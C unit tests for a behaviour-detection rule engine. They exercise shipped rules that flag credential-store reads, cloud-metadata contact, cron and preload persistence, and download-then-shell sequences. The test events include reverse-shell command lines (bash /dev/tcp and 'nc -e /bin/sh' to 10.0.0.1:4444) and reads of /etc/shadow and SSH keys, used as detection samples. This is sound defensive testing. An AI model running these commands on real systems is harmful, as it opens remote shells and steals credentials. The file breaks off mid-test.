/* Unit tests of the known-bad pattern rules: every shipped rule on a
 * hand-built event and on a near miss, sequences (time gap, order, same
 * command, bounded state, set changes), every validation error, loading a
 * directory, and the risk value's decay. Time is passed in, never read. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <arpa/inet.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cmocka.h>

#include "cleanup.h"
#include "rules-priv.h"

#define S 1000u /* ms */

static char tmpdir[64];

/* ---- events ---- */

static struct vgl_bhv_event ev_file(uint8_t op, const char *path)
{
        struct vgl_bhv_event ev = {.type = VGL_REC_FILE};
        ev.u.file.op = op;
        snprintf(ev.u.file.path, sizeof(ev.u.file.path), "%s", path);
        return ev;
}

static struct vgl_bhv_event ev_exec(const char *path, const char *argv, uint32_t exec_id)
{
        struct vgl_bhv_event ev = {.type = VGL_REC_PROC};
        ev.u.proc.h.exec_id = exec_id;
        snprintf(ev.u.proc.path, sizeof(ev.u.proc.path), "%s", path);
        snprintf(ev.u.proc.argv, sizeof(ev.u.proc.argv), "%s", argv);
        return ev;
}

static struct vgl_bhv_event ev_net(const char *addr, uint16_t port, uint8_t op)
{
        struct vgl_bhv_event ev = {.type = VGL_REC_NET};
        ev.u.net.op = op;
        ev.u.net.port = port;
        ev.u.net.family = strchr(addr, ':') ? AF_INET6 : AF_INET;
        assert_int_equal(inet_pton(ev.u.net.family, addr, ev.u.net.addr), 1);
        return ev;
}

static struct vgl_bhv_event ev_priv(unsigned call, uint16_t nr, uint64_t arg0)
{
        struct vgl_bhv_event ev = {.type = VGL_REC_PRIV};
        ev.u.priv.call = (uint16_t)call;
        ev.u.priv.nr = nr;
        ev.u.priv.arg0 = arg0;
        return ev;
}

static struct vgl_bhv_event ev_sys(uint16_t nr)
{
        struct vgl_bhv_event ev = {.type = VGL_REC_SYSCALL};
        ev.u.sys.nr = nr;
        return ev;
}

/* ---- helpers ---- */

static struct vgl_rules *parse(const char *text)
{
        struct vgl_rules *rs = NULL;
        struct vgl_error e = {0};
        if (vgl_rules_parse("t.json", text, strlen(text), &rs, &e) < 0)
                fail_msg("parse: %s", e.msg);
        return rs;
}

/* The one rule ev matches in a fresh state, "" for none; fails on several. */
static const char *fires(const struct vgl_rules *rs, const struct vgl_bhv_event *ev)
{
        static struct vgl_rule_match m[4];
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);
        size_t n = vgl_rules_eval(rs, st, ev, 1000 * S, m, 4);
        if (n > 1)
                fail_msg("%zu rules matched: %s, %s", n, m[0].rule, m[1].rule);
        return n ? m[0].rule : "";
}

static int load_shipped(void **state)
{
        const char *root = getenv("VIGIL_SOURCE_ROOT");
        char dir[4096];
        struct vgl_error e = {0};
        struct vgl_rules *rs = NULL;
        snprintf(dir, sizeof(dir), "%s/policies/rules", root ? root : "../../../..");
        if (vgl_rules_load(dir, &rs, &e) < 0) {
                print_error("cannot load the shipped rules: %s\n", e.msg);
                return -1;
        }
        *state = rs;
        return 0;
}

static int free_set(void **state)
{
        vgl_rules_free(*state);
        return 0;
}

/* ---- the shipped rules ---- */

static void test_shipped_set(void **state)
{
        const struct vgl_rules *rs = *state;
        static const char *const want[] = {
                "cloud-metadata-contact",
                "credential-store-access",
                "kernel-module-load",
                "ptrace-other-process",
                "mount-attempt",
                "ld-preload-write",
                "cron-write",
                "download-piped-to-shell",
                "reverse-shell-dev-tcp",
                "netcat-exec",
        };
        assert_int_equal(vgl_rules_count(rs), ELEMENTSOF(want));
        for (size_t i = 0; i < ELEMENTSOF(want); i++) {
                struct vgl_rule_info info;
                assert_int_equal(vgl_rules_get(rs, i, &info), 0);
                assert_string_equal(info.name, want[i]); /* files in name order */
                assert_true(strlen(info.description) > 20);
                assert_non_null(strstr(info.file, "policies/rules/"));
        }
        struct vgl_rule_info info;
        assert_int_equal(vgl_rules_get(rs, ELEMENTSOF(want), &info), -ERANGE);
}

struct shipped_case {
        struct vgl_bhv_event ev;
        const char *rule; /* "" for a near miss */
};

static void test_shipped_rules(void **state)
{
        const struct vgl_rules *rs = *state;
        const struct shipped_case cases[] = {
                /* credential stores */
                {ev_file(VGL_FILE_READ, "/etc/shadow"), "credential-store-access"},
                {ev_file(VGL_FILE_READ, "/home/ana/.ssh/id_ed25519"), "credential-store-access"},
                {ev_file(VGL_FILE_WRITE, "/root/.aws/credentials"), "credential-store-access"},
                {ev_file(VGL_FILE_READ, "/root/.docker/config.json"), "credential-store-access"},
                {ev_file(VGL_FILE_READ, "/root/.gnupg/private-keys-v1.d/x.key"),
                 "credential-store-access"},
                {ev_file(VGL_FILE_READ, "/home/ana/.ssh/id_ed25519.pub"), ""},
                {ev_file(VGL_FILE_READ, "/etc/passwd"), ""},
                {ev_file(VGL_FILE_READ, "/root/.aws/config"), ""},
                /* cloud metadata */
                {ev_net("169.254.169.254", 80, VGL_NET_CONNECT), "cloud-metadata-contact"},
                {ev_net("fd00:ec2::254", 80, VGL_NET_CONNECT), "cloud-metadata-contact"},
                {ev_net("::ffff:169.254.169.254", 80, VGL_NET_CONNECT), "cloud-metadata-contact"},
                {ev_net("169.254.169.254", 80, VGL_NET_SENDTO), "cloud-metadata-contact"},
                {ev_net("169.254.169.253", 80, VGL_NET_CONNECT), ""},
                {ev_net("169.254.169.254", 80, VGL_NET_BIND), ""},
                {ev_net("fd00:ec2::255", 80, VGL_NET_CONNECT), ""},
                /* kernel modules: init_module, finit_module; not delete_module */
                {ev_priv(3, 175, 0), "kernel-module-load"},
                {ev_priv(3, 313, 3), "kernel-module-load"},
                {ev_priv(3, 176, 0), ""},
                /* ptrace of another process, not PTRACE_TRACEME */
                {ev_priv(0, 101, 16 /* PTRACE_ATTACH */), "ptrace-other-process"},
                {ev_priv(0, 310, 1234 /* process_vm_readv pid */), "ptrace-other-process"},
                {ev_priv(0, 101, 0 /* PTRACE_TRACEME */), ""},
                /* mount */
                {ev_priv(1, 165, 0), "mount-attempt"},
                {ev_priv(5, 272 /* unshare */, 0x20000), ""},
                /* persistence */
                {ev_file(VGL_FILE_WRITE, "/etc/ld.so.preload"), "ld-preload-write"},
                {ev_file(VGL_FILE_READ, "/etc/ld.so.preload"), ""},
                {ev_file(VGL_FILE_WRITE, "/etc/cron.d/backdoor"), "cron-write"},
                {ev_file(VGL_FILE_RENAME, "/var/spool/cron/crontabs/root"), "cron-write"},
                {ev_file(VGL_FILE_READ, "/etc/crontab"), ""},
                {ev_file(VGL_FILE_WRITE, "/etc/cron.allow"), ""},
                /* reverse shells */
                {ev_exec("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 1),
                 "reverse-shell-dev-tcp"},
                {ev_exec("/bin/bash", "bash -c ls /dev/", 1), ""},
                {ev_exec("/usr/bin/python3", "python3 -c open('/dev/tcp/x')", 1), ""},
                {ev_exec("/bin/nc", "nc -e /bin/sh 10.0.0.1 4444", 1), "netcat-exec"},
                {ev_exec("/bin/nc", "nc -z 10.0.0.1 4444", 1), ""},
                /* a single downloader is not the sequence */
                {ev_exec("/usr/bin/curl", "curl -sL https://x.test/i.sh", 1), ""},
                /* other kinds never match file rules */
                {ev_sys(2), ""},
        };
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                const char *got = fires(rs, &cases[i].ev);
                if (strcmp(got, cases[i].rule) != 0)
                        fail_msg("case %zu: matched '%s', expected '%s'", i, got, cases[i].rule);
        }
}

/* curl then sh in the same command within 10 s: the shipped sequence. */
static void test_sequence_shipped(void **state)
{
        const struct vgl_rules *rs = *state;
        struct vgl_bhv_event curl = ev_exec("/usr/bin/curl", "curl -sL https://x.test", 7);
        struct vgl_bhv_event sh = ev_exec("/bin/sh", "sh", 7);
        struct vgl_bhv_event sh_other = ev_exec("/bin/sh", "sh", 8);
        struct vgl_rule_match m[2];
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);

        /* within the window */
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 100 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 105 * S, m, 2), 1);
        assert_string_equal(m[0].rule, "download-piped-to-shell");
        assert_string_equal(m[0].tag, "download_exec");
        assert_int_equal(m[0].severity, VGL_SEVERITY_HIGH);
        /* completed: a second shell alone does not fire again */
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 106 * S, m, 2), 0);

        /* the gap is too long */
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 200 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 210 * S + 1, m, 2), 0);

        /* exactly at the window's end still counts */
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 300 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 310 * S, m, 2), 1);

        /* the wrong order */
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 400 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 401 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &sh_other, 402 * S, m, 2), 0); /* other command */

        /* a second download restarts the window */
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 500 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &curl, 508 * S, m, 2), 0);
        assert_int_equal(vgl_rules_eval(rs, st, &sh, 515 * S, m, 2), 1);
}

static const char *const seq_rule =
        "{\"rules\":[{\"name\":\"a-b-c\",\"tag\":\"abc\",\"severity\":\"medium\","
        "\"description\":\"d\",\"sequence\":{\"within_s\":5,\"ordered\":%s,\"steps\":["
        "{\"kind\":\"exec\",\"program\":[\"a\"]},{\"kind\":\"exec\",\"program\":[\"b\"]},"
        "{\"kind\":\"file\",\"op\":[\"write\"],\"path\":[\"/tmp/c\"]}]}}]}";

static size_t eval_at(const struct vgl_rules *rs, struct vgl_rules_state *st,
                      struct vgl_bhv_event ev, uint64_t t)
{
        struct vgl_rule_match m;
        return vgl_rules_eval(rs, st, &ev, t, &m, 1);
}

static void test_sequence_three_steps(void **state)
{
        char text[1024];
        snprintf(text, sizeof(text), seq_rule, "true");
        _cleanup_(vgl_rules_freep) struct vgl_rules *ordered = parse(text);
        snprintf(text, sizeof(text), seq_rule, "false");
        _cleanup_(vgl_rules_freep) struct vgl_rules *any = parse(text);
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);

        /* same_command defaults to false: different commands count */
        assert_int_equal(eval_at(ordered, st, ev_exec("/x/a", "a", 1), 0), 0);
        assert_int_equal(eval_at(ordered, st, ev_exec("/x/b", "b", 2), 1 * S), 0);
        assert_int_equal(eval_at(ordered, st, ev_file(VGL_FILE_WRITE, "/tmp/c"), 2 * S), 1);
        /* c, b, a in an ordered rule: nothing */
        assert_int_equal(eval_at(ordered, st, ev_file(VGL_FILE_WRITE, "/tmp/c"), 10 * S), 0);
        assert_int_equal(eval_at(ordered, st, ev_exec("/x/b", "b", 1), 11 * S), 0);
        assert_int_equal(eval_at(ordered, st, ev_exec("/x/a", "a", 1), 12 * S), 0);

        /* the unordered rule takes them in any order */
        assert_int_equal(eval_at(any, st, ev_file(VGL_FILE_WRITE, "/tmp/c"), 20 * S), 0);
        assert_int_equal(eval_at(any, st, ev_exec("/x/b", "b", 1), 21 * S), 0);
        assert_int_equal(eval_at(any, st, ev_exec("/x/a", "a", 1), 22 * S), 1);
        /* ... but within the window from the first step */
        assert_int_equal(eval_at(any, st, ev_exec("/x/b", "b", 1), 30 * S), 0);
        assert_int_equal(eval_at(any, st, ev_exec("/x/a", "a", 1), 33 * S), 0);
        assert_int_equal(eval_at(any, st, ev_file(VGL_FILE_WRITE, "/tmp/c"), 36 * S), 0);
}

/* Many commands start a download: the state stays bounded, the oldest go. */
static void test_sequence_bounded(void **state)
{
        const struct vgl_rules *rs = *state;
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);
        size_t before = vgl_rules_state_footprint();
        for (uint32_t id = 1; id <= 3 * VGL_RULES_PARTIALS; id++)
                assert_int_equal(eval_at(rs, st, ev_exec("/usr/bin/wget", "wget x", id), id), 0);
        assert_int_equal(vgl_rules_state_footprint(), before);
        /* the newest commands are still tracked, the first ones were dropped */
        assert_int_equal(eval_at(rs, st, ev_exec("/bin/bash", "bash", 3 * VGL_RULES_PARTIALS), 100),
                         1);
        assert_int_equal(eval_at(rs, st, ev_exec("/bin/bash", "bash", 1), 101), 0);
}

/* Partial sequences belong to the set they started under; risk carries over. */
static void test_set_change(void **state)
{
        const struct vgl_rules *rs = *state;
        char text[1024];
        snprintf(text, sizeof(text), seq_rule, "true");
        _cleanup_(vgl_rules_freep) struct vgl_rules *other = parse(text);
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);
        assert_int_equal(eval_at(rs, st, ev_file(VGL_FILE_READ, "/etc/shadow"), 0), 1);
        double risk = vgl_rules_risk(st, 0);
        assert_int_equal(eval_at(rs, st, ev_exec("/usr/bin/curl", "curl", 1), 0), 0);
        assert_int_equal(eval_at(other, st, ev_exec("/x/a", "a", 1), 0), 0);
        assert_int_equal(eval_at(rs, st, ev_exec("/bin/sh", "sh", 1), 1), 0);
        assert_true(vgl_rules_risk(st, 0) == risk);
}

/* ---- matching details ---- */

static void test_conditions(void **state)
{
        _cleanup_(vgl_rules_freep) struct vgl_rules *rs =
                parse("{\"rules\":["
                      "{\"name\":\"net\",\"tag\":\"t\",\"severity\":\"low\",\"description\":\"d\","
                      "\"match\":{\"kind\":\"net\",\"address\":[\"10.0.0.0/8\",\"2001:db8::/33\"],"
                      "\"port\":[22,\"8000-8100\"],\"verdict\":[\"deny\"]}},"
                      "{\"name\":\"sys\",\"tag\":\"t\",\"severity\":\"low\",\"description\":\"d\","
                      "\"match\":{\"kind\":\"syscall\",\"syscall\":[59]}},"
                      "{\"name\":\"priv\",\"tag\":\"t\",\"severity\":\"low\",\"description\":\"d\","
                      "\"match\":{\"kind\":\"privilege\",\"privilege\":[\"setuid\"],"
                      "\"arg0_in\":[0]}},"
                      "{\"name\":\"exec\",\"tag\":\"t\",\"severity\":\"low\",\"description\":\"d\","
                      "\"match\":{\"kind\":\"exec\",\"path\":[\"/usr/*\"],\"path_not\":[\"/usr/bin/"
                      "[a-c]*\"]}}]}");
        struct vgl_bhv_event ev = ev_net("10.1.2.3", 22, VGL_NET_CONNECT);
        assert_string_equal(fires(rs, &ev), ""); /* allowed, the rule wants denied */
        ev.u.net.verdict = VGL_VERDICT_DENY;
        assert_string_equal(fires(rs, &ev), "net");
        ev.u.net.port = 8100;
        assert_string_equal(fires(rs, &ev), "net");
        ev.u.net.port = 8101;
        assert_string_equal(fires(rs, &ev), "");
        ev = ev_net("2001:db8:7fff::1", 22, VGL_NET_CONNECT);
        ev.u.net.verdict = VGL_VERDICT_DENY;
        assert_string_equal(fires(rs, &ev), "net");
        ev = ev_net("2001:db8:8000::1", 22, VGL_NET_CONNECT); /* beyond the /33 */
        ev.u.net.verdict = VGL_VERDICT_DENY;
        assert_string_equal(fires(rs, &ev), "");
        ev.u.net.family = AF_UNIX;
        assert_string_equal(fires(rs, &ev), "");

        ev = ev_sys(59);
        assert_string_equal(fires(rs, &ev), "sys");
        ev = ev_sys(60);
        assert_string_equal(fires(rs, &ev), "");
        ev = ev_priv(4, 105, 0);
        assert_string_equal(fires(rs, &ev), "priv");
        ev = ev_priv(4, 105, 1000);
        assert_string_equal(fires(rs, &ev), "");
        ev = ev_exec("/usr/local/bin/x", "x", 1);
        assert_string_equal(fires(rs, &ev), "exec");
        ev = ev_exec("/usr/bin/bash", "bash", 1);
        assert_string_equal(fires(rs, &ev), "");
        ev = ev_exec("/usr/bin/dash", "dash", 1);
        assert_string_equal(fires(rs, &ev), "exec");
}

/* All matches are counted; only max are written; each adds to the risk. */
static void test_several_matches(void **state)
{
        _cleanup_(vgl_rules_freep) struct vgl_rules *rs = parse(
                "{\"rules\":["
                "{\"name\":\"one\",\"tag\":\"t1\",\"severity\":\"low\",\"description\":\"d\","
                "\"match\":{\"kind\":\"file\"}},"
                "{\"name\":\"two\",\"tag\":\"t2\",\"severity\":\"critical\",\"description\":\"d\","
                "\"match\":{\"kind\":\"file\",\"path\":[\"/etc/*\"]}}]}");
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        assert_int_equal(vgl_rules_state_new(&st), 0);
        struct vgl_rule_match m[1];
        struct vgl_bhv_event ev = ev_file(VGL_FILE_READ, "/etc/hosts");
        assert_int_equal(vgl_rules_eval(rs, st, &ev, 0, m, 1), 2);
        assert_string_equal(m[0].rule, "one");
        assert_float_equal(vgl_rules_risk(st, 0), 1.0 - exp(-2.1), 1e-9);
        assert_int_equal(vgl_rules_eval(rs, st, &ev, 0, NULL, 0), 2);
}

/* ---- validation ---- */

#define RULE(body)                                                                                 \
        "{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\",\"description\":"          \
        "\"d\"," body "}]}"
#define MATCH(body) RULE("\"match\":{" body "}")

struct bad_case {
        const char *text;
        const char *msg; /* expected in the error, after "t.json: " */
};

static void test_validation_errors(void **state)
{
        static const struct bad_case cases[] = {
                {"", "invalid JSON"},
                {"{\"rules\":[]} x", "bytes after the JSON object"},
                {"[]", "expected a JSON object"},
                {"{\"rule\":[]}", "unknown field \"rule\""},
                {"{}", "missing field \"rules\""},
                {"{\"rules\":{}}", "field \"rules\": expected an array"},
                {"{\"rules\":[1]}", "rules[0]: expected an object"},
                {RULE("\"match\":{\"kind\":\"file\"},\"priority\":1"),
                 "rules[0] \"r\": unknown field \"priority\""},
                {"{\"rules\":[{\"tag\":\"t\"}]}", "rules[0]: missing field \"name\""},
                {"{\"rules\":[{\"name\":\"Bad\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"d\"}]}",
                 "field \"name\": 'Bad' may hold only"},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"a-b\",\"severity\":\"low\","
                 "\"description\":\"d\"}]}",
                 "field \"tag\": 'a-b' may hold only"},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":3,"
                 "\"description\":\"d\"}]}",
                 "field \"severity\": expected a string"},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"severe\","
                 "\"description\":\"d\"}]}",
                 "field \"severity\": unknown value \"severe\""},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"a\\u0007b\",\"match\":{\"kind\":\"file\"}}]}",
                 "field \"description\": holds a control character"},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"\",\"match\":{\"kind\":\"file\"}}]}",
                 "field \"description\": empty"},
                {"{\"rules\":[{\"name\":"
                 "\"rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr"
                 "rrrrrrrr\",\"tag\":\"t\",\"severity\":\"low\",\"description\":\"d\"}]}",
                 "field \"name\": longer than 63 bytes"},
                {RULE("\"x\":1"), "unknown field \"x\""},
                {RULE("\"description2\":1"), "unknown field \"description2\""},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"d\"}]}",
                 "exactly one of \"match\" and \"sequence\""},
                {RULE("\"match\":{\"kind\":\"file\"},\"sequence\":{}"), "exactly one of"},
                {RULE("\"match\":[]"), "field \"match\": expected an object"},
                {MATCH(""), "missing field \"match.kind\""},
                {MATCH("\"kind\":\"usage\""), "field \"match.kind\": unknown kind \"usage\""},
                {MATCH("\"kind\":\"file\",\"colour\":[1]"), "unknown field \"match.colour\""},
                {MATCH("\"kind\":\"file\",\"address\":[\"10.0.0.0/8\"]"),
                 "field \"match.address\" does not apply to kind \"file\""},
                {MATCH("\"kind\":\"net\",\"program\":[\"sh\"]"),
                 "field \"match.program\" does not apply to kind \"net\""},
                {MATCH("\"kind\":\"file\",\"path\":\"/etc/shadow\""),
                 "field \"match.path\": expected an array of 1 to 64 entries"},
                {MATCH("\"kind\":\"file\",\"path\":[]"), "expected an array of 1 to 64"},
                {MATCH("\"kind\":\"file\",\"path\":[\"/a[bc\"]"),
                 "field \"match.path[0]\": glob \"/a[bc\" has an unclosed '['"},
                {MATCH("\"kind\":\"file\",\"path\":[\"/a\",\"etc/x\"]"),
                 "field \"match.path[1]\": glob \"etc/x\" must start with '/' or '*'"},
                {MATCH("\"kind\":\"file\",\"path\":[\"/a\\\\\"]"), "ends with a lone '\\'"},
                {MATCH("\"kind\":\"file\",\"path\":[\"/*a*b*c*\"]"), "has more than 3 '*'"},
                {MATCH("\"kind\":\"file\",\"path\":[3]"),
                 "field \"match.path[0]\": expected a string"},
                {MATCH("\"kind\":\"file\",\"path\":[\"\"]"), "field \"match.path[0]\": empty"},
                {MATCH("\"kind\":\"exec\",\"program\":[\"/bin/sh\"]"),
                 "field \"match.program[0]\": glob \"/bin/sh\" is a program name: no '/'"},
                {MATCH("\"kind\":\"exec\",\"path_not\":[\"x\"]"),
                 "field \"match.path_not[0]\": glob \"x\" must start"},
                {MATCH("\"kind\":\"net\",\"address\":[\"10.0.0.300/8\"]"),
                 "field \"match.address[0]\": bad CIDR \"10.0.0.300/8\""},
                {MATCH("\"kind\":\"net\",\"address\":[\"10.0.0.1/8\"]"),
                 "bad CIDR \"10.0.0.1/8\" (host bits set beyond the prefix)"},
                {MATCH("\"kind\":\"net\",\"address\":[\"10.0.0.0/33\"]"), "bad CIDR"},
                {MATCH("\"kind\":\"net\",\"address\":[\"::/129\"]"), "bad CIDR"},
                {MATCH("\"kind\":\"net\",\"address\":[\"10.0.0.0/\"]"), "bad CIDR"},
                {MATCH("\"kind\":\"net\",\"address\":[\"10.0.0.0/08\"]"), "bad CIDR"},
                {MATCH("\"kind\":\"net\",\"port\":[65536]"),
                 "field \"match.port[0]\": 65536 is not a port"},
                {MATCH("\"kind\":\"net\",\"port\":[\"90-80\"]"),
                 "field \"match.port[0]\": expected a port or a range"},
                {MATCH("\"kind\":\"net\",\"port\":[\" 1-2\"]"), "expected a port or a range"},
                {MATCH("\"kind\":\"net\",\"port\":[\"-1-2\"]"), "expected a port or a range"},
                {MATCH("\"kind\":\"net\",\"op\":[\"read\"]"),
                 "field \"match.op[0]\": unknown value \"read\""},
                {MATCH("\"kind\":\"file\",\"op\":[\"connect\"]"), "unknown value \"connect\""},
                {MATCH("\"kind\":\"file\",\"verdict\":[\"maybe\"]"),
                 "field \"match.verdict[0]\": unknown value \"maybe\""},
                {MATCH("\"kind\":\"privilege\",\"privilege\":[\"root\"]"),
                 "field \"match.privilege[0]\": unknown value \"root\""},
                {MATCH("\"kind\":\"syscall\",\"syscall\":[5000]"),
                 "field \"match.syscall[0]\": expected an integer in [0, 4095]"},
                {MATCH("\"kind\":\"syscall\",\"syscall\":[\"read\"]"), "expected an integer"},
                {MATCH("\"kind\":\"privilege\",\"arg0_in\":[-1]"),
                 "field \"match.arg0_in[0]\": expected an integer"},
                {MATCH("\"kind\":\"privilege\",\"arg0_not_in\":[1.5]"),
                 "field \"match.arg0_not_in[0]\""},
                {RULE("\"sequence\":{\"within_s\":5,\"steps\":[{\"kind\":\"file\"}]}"),
                 "field \"sequence.steps\": expected 2 to 4 steps"},
                {RULE("\"sequence\":{\"within_s\":5}"), "missing field \"sequence.steps\""},
                {RULE("\"sequence\":{\"within_s\":5,\"steps\":[{\"kind\":\"file\"},"
                      "{\"kind\":\"exec\",\"program\":[\"a/b\"]}]}"),
                 "field \"sequence.steps[1].program[0]\""},
                {RULE("\"sequence\":{\"within_s\":5,\"steps\":[{\"kind\":\"file\"},3]}"),
                 "field \"sequence.steps[1]\": expected an object"},
                {RULE("\"sequence\":{\"within_s\":0,\"steps\":[{\"kind\":\"file\"},"
                      "{\"kind\":\"file\"}]}"),
                 "field \"sequence.within_s\": must be >= 1"},
                {RULE("\"sequence\":{\"within_s\":3601,\"steps\":[{\"kind\":\"file\"},"
                      "{\"kind\":\"file\"}]}"),
                 "field \"within_s\": 3601 not in [0, 3600]"},
                {RULE("\"sequence\":{\"steps\":[{\"kind\":\"file\"},{\"kind\":\"file\"}]}"),
                 "missing field \"within_s\""},
                {RULE("\"sequence\":{\"within_s\":1,\"ordered\":1,\"steps\":[{\"kind\":\"file\"},"
                      "{\"kind\":\"file\"}]}"),
                 "field \"ordered\": expected true or false"},
                {RULE("\"sequence\":{\"within_s\":1,\"every\":1,\"steps\":[]}"),
                 "unknown field \"sequence.every\""},
                {"{\"rules\":[{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"d\",\"match\":{\"kind\":\"file\"}},"
                 "{\"name\":\"r\",\"tag\":\"t\",\"severity\":\"low\","
                 "\"description\":\"d\",\"match\":{\"kind\":\"file\"}}]}",
                 "rules[1] \"r\": name already used in t.json"},
        };
        for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
                struct vgl_rules *rs = NULL;
                struct vgl_error e = {0};
                int r = vgl_rules_parse("t.json", cases[i].text, strlen(cases[i].text), &rs, &e);
                if (r >= 0)
                        fail_msg("case %zu was accepted: %s", i, cases[i].text);
                assert_null(rs);
                if (strncmp(e.msg, "t.json: ", 8) != 0 || !strstr(e.msg, cases[i].msg))
                        fail_msg("case %zu: '%s' lacks 't.json: ...%s'", i, e.msg, cases[i].msg);
        }
}

/* Caps: list length, sequence rules per set. */
static void test_caps(void **state)
{
        _cleanup_free_ char *text = malloc(64 * 1024);
        size_t n =
                (size_t)sprintf(text, "%s", RULE("\"match\":{\"kind\":\"syscall\",\"syscall\":["));
        n -= 3; /* back over the "}]}" that RULE closes with */
        for (unsigned i = 0; i <= VGL_RULES_LIST_MAX; i++)
                n += (size_t)sprintf(text + n, "%s%u", i ? "," : "", i);
        sprintf(text + n, "]}}]}");
        struct vgl_rules *rs = NULL;
        struct vgl_error e = {0};
        assert_int_equal(vgl_rules_parse("t.json", text, strlen(text), &rs, &e), -EINVAL);
        assert_non_null(strstr(e.msg, "expected an array of 1 to 64 entries"));

        n = (size_t)sprintf(text, "{\"rules\":[");
        for (unsigned i = 0; i <= VGL_RULES_SEQ_MAX; i++)
                n += (size_t)sprintf(text + n,
                                     "%s{\"name\":\"s%u\",\"tag\":\"t\",\"severity\":\"low\","
                                     "\"description\":\"d\",\"sequence\":{\"within_s\":1,"
                                     "\"steps\":[{\"kind\":\"file\"},{\"kind\":\"file\"}]}}",
                                     i ? "," : "", i);
        sprintf(text + n, "]}");
        assert_int_equal(vgl_rules_parse("t.json", text, strlen(text), &rs, &e), -E2BIG);
        assert_non_null(strstr(e.msg, "rules[32] \"s32\": more than 32 sequence rules"));
}

/* ---- loading a directory ---- */

static void put(const char *name, const char *text)
{
        char path[128];
        snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
        FILE *f = fopen(path, "we");
        assert_non_null(f);
        fputs(text, f);
        fclose(f);
}

static int make_tmpdir(void **state)
{
        snprintf(tmpdir, sizeof(tmpdir), "/tmp/vigil-test-rules-XXXXXX");
        return mkdtemp(tmpdir) ? 0 : -1;
}

static int remove_tmpdir(void **state)
{
        char cmd[128];
        snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
        return system(cmd) == 0 ? 0 : -1;
}

static void test_load_dir(void **state)
{
        struct vgl_rules *rs = NULL, *next = NULL;
        struct vgl_error e = {0};
        assert_int_equal(vgl_rules_load(tmpdir, &rs, &e), 0); /* empty: an empty set */
        assert_int_equal(vgl_rules_count(rs), 0);
        vgl_rules_free(rs);

        put("b.json", RULE("\"match\":{\"kind\":\"file\"}"));
        put("a.json", "{\"rules\":[{\"name\":\"first\",\"tag\":\"t\",\"severity\":\"high\","
                      "\"description\":\"d\",\"match\":{\"kind\":\"exec\"}}]}");
        put("notes.txt", "not a rule file");
        put(".hidden.json", "garbage");
        assert_int_equal(vgl_rules_load(tmpdir, &rs, &e), 0);
        assert_int_equal(vgl_rules_count(rs), 2);
        struct vgl_rule_info info;
        assert_int_equal(vgl_rules_get(rs, 0, &info), 0);
        assert_string_equal(info.name, "first");
        assert_int_equal(info.severity, VGL_SEVERITY_HIGH);
        assert_false(info.sequence);

        /* A duplicate in another file fails the whole load; rs stays as it was. */
        put("c.json", RULE("\"match\":{\"kind\":\"net\"}"));
        assert_int_equal(vgl_rules_load(tmpdir, &next, &e), -EINVAL);
        assert_null(next);
        assert_non_null(strstr(e.msg, "/c.json: rules[0] \"r\": name already used in "));
        assert_non_null(strstr(e.msg, "/b.json"));
        assert_int_equal(vgl_rules_count(rs), 2);

        /* So does an oversized file, naming it. */
        char *big = malloc(VGL_RULES_FILE_MAX + 2);
        memset(big, ' ', VGL_RULES_FILE_MAX + 1);
        big[VGL_RULES_FILE_MAX + 1] = '\0';
        put("c.json", big);
        free(big);
        assert_int_equal(vgl_rules_load(tmpdir, &next, &e), -EFBIG);
        assert_non_null(strstr(e.msg, "/c.json"));

        char missing[96];
        snprintf(missing, sizeof(missing), "%s/nope", tmpdir);
        assert_int_equal(vgl_rules_load(missing, &next, &e), -ENOENT);
        assert_null(next);
        vgl_rules_free(rs);
}

/* ---- risk ---- */

static void test_risk_decay(void **state)
{
        _cleanup_(vgl_rules_state_freep) struct vgl_rules_state *st = NULL;
        const uint64_t h = VGL_RULES_RISK_HALF_LIFE_MS, t0 = 5000;
